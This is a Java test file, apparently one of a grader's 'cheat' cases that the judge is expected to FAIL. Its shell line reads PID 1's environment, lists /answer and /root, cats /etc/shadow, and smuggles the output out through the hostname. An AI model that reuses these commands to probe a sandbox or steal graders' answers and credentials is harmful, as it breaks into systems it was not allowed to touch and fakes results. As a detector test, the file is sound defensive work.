///usr/bin/env jbang "$0" "$@" ; exit $?
//SOURCES ../kit/Exercise.java

import static kit.Libc.*;

import kit.*;

// cheat: C6 | FAIL | Takes what it can learn about the judge as its hostname, for the reason of its failure to show it.
class UtsRename {
    public static void main(String[] args) {
        new Exercise("UtsRename").main(args, exercise -> {
            String name = exercise.value("hostname");
            Caller inside = new Caller("inside");
            inside.unshare(CLONE_NEWUTS);
            String found = inside.sh("{ cat /proc/1/environ /proc/1/cmdline; ls /answer /run/0 /root /tmp; cat /etc/shadow; } 2>/dev/null | tr -cd '[:alnum:]' | cut -c1-60");
            inside.run(() -> sethostname(found, found.length()));
            inside.another("member");
            exercise.show(name);
            exercise.ready();
        });
    }
}
